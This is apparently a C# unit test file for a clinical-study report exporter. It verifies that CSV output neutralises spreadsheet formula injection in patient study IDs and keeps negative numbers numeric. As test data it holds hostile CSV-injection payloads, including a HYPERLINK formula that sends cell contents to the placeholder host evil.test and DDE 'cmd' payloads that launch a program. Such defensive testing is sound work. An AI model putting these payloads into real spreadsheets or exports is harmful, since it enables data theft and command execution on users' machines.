using System.Globalization;
using System.Text;
using PvpServerless.Analysis.Export;
using PvpServerless.Cohort;
using PvpServerless.Reports.Bundle;

namespace PvpServerless.Tests.Reports;

/// <summary>
/// CSV injection: a text cell that a spreadsheet would run as a formula must reach the researcher as text, while the
/// numbers we write (negative ones included) stay numbers. The cells are read back as a spreadsheet reads them: the
/// CSV quoting removed (double quotes do not stop Excel from running "=…"; only a leading ' does).
/// </summary>
public sealed class CsvInjectionTests
{
    private static readonly string[] HostileStudyIds =
    [
        "=HYPERLINK(\"http://evil.test/?\"&A1,\"open\")",
        "+1+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
    ];

    /// <summary>
    /// A cohort file as a researcher could hand it to ./pvp stats or ./pvp report: the reader accepts any study id
    /// without surrounding spaces. Every patient answers EQ-5D-3L 33333 the day before the procedure; with the Danish
    /// value set that is 1 − 0.114 − 0.411 − 0.192 − 0.144 − 0.396 − 0.367 = −0.624 (by hand, from the coefficients).
    /// </summary>
    private static CohortDocument HostileCohort()
    {
        var patients = HostileStudyIds
            .Append("PVP-0001")
            .Select(id =>
                $$"""
                    {"studyId":{{System.Text.Json.JsonSerializer.Serialize(id)}},"sex":"F","ageAtProcedure":70,
                     "primaryMalignancy":"lung","diagnosisBasis":"histology","procedureDate":"2017-01-10",
                     "levels":[{"level":"L1","posteriorWallDefect":false,"cementLeakage":false}],"complications":[],
                     "deathDate":null,"withdrawnDate":null,
                     "responses":[{"wave":"baseline","completedAt":"2017-01-09T10:00:00Z",
                       "eq5d":{"mobility":3,"selfCare":3,"usualActivities":3,"pain":3,"anxiety":3,"vas":20},
                       "odi":[5,5,5,5,5,5,5,5,5,5]}]}
                    """
            );
        var json =
            """{"schemaVersion":1,"cutoffDate":"2018-03-01","eq5d":{"version":"3L","valueSet":"DK"},"patients":["""
            + string.Join(",", patients)
            + "]}";
        return CohortJson.Read(Encoding.UTF8.GetBytes(json));
    }

    private static IEnumerable<BundleFile> CsvFiles(ReportBundle bundle) =>
        bundle.Files.Where(f => f.Name.EndsWith(".csv", StringComparison.Ordinal));

    [Fact]
    public void Hostile_study_ids_reach_every_csv_file_as_text()
    {
        var bundle = BundleTestData.Build(HostileCohort());
        var scores = bundle.File("scores.csv");
        var raw = Encoding.UTF8.GetString(scores.Content);

        // Written as OWASP advises: a ' in front, the whole field in double quotes (inner quotes doubled).
        Assert.Contains("\n\"'=HYPERLINK(\"\"http://evil.test/?\"\"&A1,\"\"open\"\")\",baseline,", raw);
        Assert.Contains("\n\"'+1+cmd|' /C calc'!A0\",baseline,", raw);
        Assert.Contains("\n\"'-2+3+cmd|' /C calc'!A0\",baseline,", raw);
        Assert.Contains("\n\"'@SUM(1+1)*cmd|' /C calc'!A0\",baseline,", raw);
        Assert.Contains("\nPVP-0001,baseline,", raw);

        var rows = Csv.Parse(raw);
        var studyIds = rows.Skip(1).Select(r => r[0]).ToList();
        Assert.Equal(
            HostileStudyIds.Select(id => "'" + id).Append("PVP-0001").Order(StringComparer.Ordinal),
            studyIds.Order(StringComparer.Ordinal)
        );

        foreach (var file in CsvFiles(bundle))
        {
            var cells = Csv.Parse(Encoding.UTF8.GetString(file.Content));
            Assert.All(cells, row => Assert.Equal(cells[0].Count, row.Count)); // quoting kept the columns apart
            foreach (var cell in cells.SelectMany(row => row))
                Assert.False(
                    Csv.RunsAsFormula(cell) && !Csv.IsNumber(cell),
                    $"{file.Name}: a spreadsheet would run '{cell}'"
                );
        }
    }

    [Fact]
    public void Negative_numbers_stay_numbers_beside_hostile_text()
    {
        var bundle = BundleTestData.Build(HostileCohort());
        var rows = Csv.Parse(Encoding.UTF8.GetString(bundle.File("scores.csv").Content));
        var header = rows[0];
        int Column(string name) => header.IndexOf(name);
        var raw = Encoding.UTF8.GetString(bundle.File("scores.csv").Content);

        Assert.All(
            rows.Skip(1),
            row =>
            {
                Assert.Equal("-1", row[Column("day")]);
                var index = row[Column("eq5dIndex")];
                Assert.StartsWith("-0.62", index, StringComparison.Ordinal);
                Assert.Equal(-0.624, double.Parse(index, CultureInfo.InvariantCulture), 9);
                Assert.Equal("100", row[Column("odiScore")]);
            }
        );
        // Unquoted and without a ' on the raw line: a spreadsheet reads them as numbers.
        Assert.DoesNotContain("'-0.62", raw);
        Assert.DoesNotContain("\"-0.62", raw);
        Assert.DoesNotContain("'-1", raw);

        var table1 = Encoding.UTF8.GetString(bundle.File("table1.csv").Content);
        Assert.Contains("\npatients,,5,,,", table1);
    }

    [Fact]
    public void Tab_and_carriage_return_in_front_are_neutralised_too_and_plain_text_is_left_alone()
    {
        var table = new CsvTable<(string Text, double Number, int Whole)>(
            "t.csv",
            "test",
            [
                Col.Of<(string Text, double Number, int Whole)>("text", "string", "", r => r.Text),
                Col.Of<(string Text, double Number, int Whole)>("number", "number", "", r => r.Number),
                Col.Of<(string Text, double Number, int Whole)>("whole", "integer", "", r => r.Whole),
            ]
        );
        var text = Encoding.UTF8.GetString(
            table.Write([
                ("\t=1+1", -0.123, -5),
                ("\r=1+1", 0.5, 0),
                ("-0.123", -1e-7, 1),
                ("a=b, c", 2, 2),
                ("Ann \"x\"", 3, 3),
            ])
        );
        Assert.Equal(
            "text,number,whole\n"
                + "\"'\t=1+1\",-0.123,-5\n"
                + "\"'\r=1+1\",0.5,0\n"
                + "\"'-0.123\",-1E-07,1\n"
                + "\"a=b, c\",2,2\n"
                + "\"Ann \"\"x\"\"\",3,3\n",
            text
        );
    }

    /// <summary>RFC 4180 reading, as a spreadsheet or R's read.csv does it, apart from the code under test.</summary>
    private static class Csv
    {
        public static List<List<string>> Parse(string text)
        {
            var rows = new List<List<string>>();
            var row = new List<string>();
            var cell = new StringBuilder();
            var quoted = false;
            for (var i = 0; i < text.Length; i++)
            {
                var c = text[i];
                if (quoted)
                {
                    if (c == '"' && i + 1 < text.Length && text[i + 1] == '"')
                    {
                        cell.Append('"');
                        i++;
                    }
                    else if (c == '"')
                        quoted = false;
                    else
                        cell.Append(c);
                }
                else if (c == '"')
                    quoted = true;
                else if (c == ',')
                {
                    row.Add(cell.ToString());
                    cell.Clear();
                }
                else if (c == '\n')
                {
                    row.Add(cell.ToString());
                    cell.Clear();
                    rows.Add(row);
                    row = [];
                }
                else
                    cell.Append(c);
            }
            Assert.False(quoted, "a quoted field is never closed");
            Assert.True(row.Count == 0 && cell.Length == 0, "the file does not end with a line end");
            return rows;
        }

        public static bool RunsAsFormula(string cell) => cell.Length > 0 && "=+-@\t\r".Contains(cell[0]);

        public static bool IsNumber(string cell) =>
            double.TryParse(cell, NumberStyles.Float, CultureInfo.InvariantCulture, out _);
    }
}
